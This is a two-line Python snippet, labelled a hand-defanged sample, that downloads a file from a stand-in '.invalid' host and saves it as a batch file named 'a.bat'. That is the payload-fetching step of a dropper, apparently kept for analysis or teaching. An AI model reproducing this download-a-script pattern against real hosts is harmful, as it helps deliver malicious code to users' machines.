# Defanged sample: nothing here is reached or run; defanged by hand.
import urllib.request
urllib.request.urlretrieve('https://payload.invalid/x', 'a.bat')
